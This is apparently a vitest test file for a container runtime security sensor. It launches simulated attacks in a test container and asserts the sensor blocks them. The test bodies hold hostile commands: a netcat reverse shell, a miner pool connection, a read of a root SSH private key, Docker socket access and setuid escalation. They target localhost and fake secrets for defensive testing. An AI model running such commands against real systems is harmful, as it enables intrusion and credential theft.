import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { RuntimeEvent } from '@breakwater/model';
import type { Guard } from '@breakwater/sensor/guards';
import { Sensor } from '@breakwater/sensor/sensor';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { makeAttackImage, NO_ATTACKS, withAttacks } from './attack-image.ts';
import type { SampleImage } from './sample-container.ts';

/** What is left of an attack: whether it made the file by which it says that it succeeded. */
const PROOF = 'test -e /tmp/proof && echo "proof made" || echo "no proof"';

describe.skipIf(NO_ATTACKS !== '')(withAttacks('attacks on a container that is guarded'), () => {
  let image: SampleImage;
  let sensor: Sensor | undefined;
  let folder = '';
  let events: RuntimeEvent[] = [];
  const servers: Server[] = [];

  beforeAll(() => {
    image = makeAttackImage('breakwater-attack-test');
    folder = mkdtempSync(join(tmpdir(), 'attacked-'));
  });
  afterEach(async () => {
    await sensor?.close();
    for (const server of servers.splice(0)) server.close();
  });
  afterAll(() => {
    image?.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  async function attacked(name: string, guard: Guard, script: string, options?: readonly string[]): Promise<string> {
    events = [];
    sensor = await Sensor.open({
      chooses: (facts) => facts.container?.name === name,
      guardOf: () => guard,
      take: (event) => events.push(event),
    });
    const output = await image.run(name, `sleep 0.5; ${script}`, options);
    await sensor.close();
    return output;
  }

  const decisions = (): unknown[] =>
    events.flatMap(({ type, prevention, guards }) =>
      prevention === undefined ? [] : [[type, prevention, guards?.[0]]],
    );

  /** Counts who comes. */
  async function listen(at: number | string): Promise<{ port: number; callers: () => number }> {
    let callers = 0;
    const server = createServer((socket) => {
      callers++;
      socket.on('error', () => undefined).end();
    });
    servers.push(server);
    await new Promise<void>((resolve) =>
      typeof at === 'string' ? server.listen(at, resolve) : server.listen(at, '127.0.0.1', resolve),
    );
    const address = server.address();
    return { port: typeof address === 'object' ? (address?.port ?? 0) : 0, callers: () => callers };
  }

  it('a dropped binary: dies before its first instruction', async () => {
    const output = await attacked(
      'bw-dropped',
      { programs: 'block' },
      `cp /app/attack /tmp/x; /tmp/x prove /tmp/proof; ${PROOF}`,
    );
    expect(output).toContain('no proof');
    expect(decisions()).toEqual([['exec', 'stopped', 'programs']]);
  });

  it('a program in memory only: the same', async () => {
    const output = await attacked('bw-memory', { programs: 'block' }, `/app/attack memory /tmp/proof; ${PROOF}`);
    expect(output).toContain('no proof');
    expect(decisions()).toEqual([['exec', 'stopped', 'programs']]);
  });

  it('a reverse shell: its server hears nothing', async () => {
    const { port, callers } = await listen(0);
    const shell = `nc 127.0.0.1 ${port} -e /bin/sh || echo refused`;
    const open = await attacked('bw-shell-open', { connections: 'audit' }, shell, ['--network=host']);
    expect([open.includes('refused'), callers()]).toEqual([false, 1]);
    const output = await attacked('bw-shell', { connections: 'block' }, shell, ['--network=host']);
    expect([output.includes('refused'), callers()]).toEqual([true, 1]);
    expect(decisions()).toEqual([['connect', 'stopped', 'connections']]);
  });

  it("a miner's connection: its pool hears nothing", async () => {
    const { port, callers } = await listen(0);
    const mine = `echo '{"method":"mining.subscribe"}' | nc 127.0.0.1 ${port}; true`;
    await attacked('bw-miner', { connections: 'block' }, mine, ['--network=host']);
    expect(callers()).toBe(0);
    expect(decisions()).toEqual([['connect', 'stopped', 'connections']]);
  });

  it('a shell out of a program that starts none: dies before its first instruction, and the first program runs', async () => {
    const permits = [
      { guard: 'starts', object: '/bin/busybox' },
      { guard: 'starts', actor: '/bin/busybox', object: '/bin/busybox' },
    ] as const;
    const script = `/app/attack prove /tmp/proof; ${PROOF}`;
    const output = await attacked('bw-starts', { starts: 'block', permits }, script);
    expect(output).toContain('no proof');
    expect(decisions()).toEqual([['exec', 'stopped', 'starts']]);
    const let_ = [...permits, { guard: 'starts', actor: '/bin/busybox', object: '/app/attack' } as const];
    const allowed = await attacked('bw-starts-let', { starts: 'block', permits: let_ }, script);
    expect(allowed).toContain('proof made');
    expect(decisions()).toEqual([]);
  });

  it('a credential read: whoever opens it dies, and nothing of it is copied', async () => {
    const script = 'cat /root/.ssh/id_rsa > /tmp/copy; echo "copied: $(cat /tmp/copy)"';
    const output = await attacked('bw-credential', { credentials: 'block' }, script);
    expect(output).toMatch(/copied: *\n/);
    expect(decisions()).toEqual([['open', expect.stringMatching(/killed|stopped/), 'credentials']]);
    const permits = [{ guard: 'credentials', actor: '/bin/busybox', object: '/root/.ssh/id_rsa' }] as const;
    const allowed = await attacked('bw-credential-let', { credentials: 'block', permits }, script);
    expect(allowed).toContain('copied: not a secret');
  });

  it("a mounted runtime's socket: the runtime hears nothing, by whatever name", async () => {
    const path = join(folder, 'docker.sock');
    const { callers } = await listen(path);
    const options = ['--network=none', `--volume=${path}:/run/docker.sock`];
    const connect = '/app/attack socket /tmp/proof /run/docker.sock; ln -s /run/docker.sock /tmp/s';
    const script = `${connect}; /app/attack socket /tmp/proof /tmp/s; ${PROOF}`;
    expect(await attacked('bw-socket-open', { sockets: 'audit' }, script, options)).toContain('proof made');
    const before = callers();
    expect(await attacked('bw-socket', { sockets: 'block' }, script, options)).toContain('no proof');
    expect(callers()).toBe(before);
    expect(decisions()).toEqual([
      ['connect', 'stopped', 'sockets'],
      ['connect', 'stopped', 'sockets'],
    ]);
    const permits = [{ guard: 'sockets', object: '/run/docker.sock', isText: true }] as const;
    expect(await attacked('bw-socket-let', { sockets: 'block', permits }, script, options)).toContain('proof made');
  });

  it('a copy with the setuid bit: dies before it is root', async () => {
    const script = '/app/attack-setuid gain /safe/proof; echo "ended with $?"';
    const options = ['--network=none', '--user=1000'];
    expect(await attacked('bw-gain-open', { gains: 'audit' }, script, options)).toContain('gain succeeded');
    const output = await attacked('bw-gain', { gains: 'block' }, script, options);
    expect(output).toContain('ended with 137');
    expect(decisions()).toEqual([['exec', 'stopped', 'gains']]);
    const permits = [{ guard: 'gains', object: '/app/attack-setuid' }] as const;
    expect(await attacked('bw-gain-let', { gains: 'block', permits }, script, options)).toContain('gain succeeded');
  });

  it('unshare and mount without a profile of its own: told as killed afterwards, which is no prevention', async () => {
    const options = ['--network=none', '--cap-add=SYS_ADMIN', '--security-opt=seccomp=unconfined'];
    const script = `/app/attack namespaces /tmp/proof; ${PROOF}`;
    expect(await attacked('bw-unshare-open', {}, script, options)).toContain('proof made');
    expect(await attacked('bw-unshare', { namespaces: 'block' }, script, options)).toContain('no proof');
    expect(decisions()).toEqual([['namespace', expect.stringMatching(/killed|stopped/), 'namespaces']]);
    const permits = [{ guard: 'namespaces', actor: '/app/attack' }] as const;
    expect(await attacked('bw-unshare-let', { namespaces: 'block', permits }, script, options)).toContain('proof made');
  });

  it('a raw socket, which no address guards: refused, and told', async () => {
    const script = `/app/attack raw-socket /tmp/proof; ${PROOF}`;
    const options = ['--network=none', '--cap-add=NET_RAW'];
    expect(await attacked('bw-raw-open', {}, script, options)).toContain('proof made');
    expect(await attacked('bw-raw', { connections: 'block' }, script, options)).toContain('no proof');
    expect(decisions()).toEqual([['syscall', 'stopped', 'connections']]);
  });
});
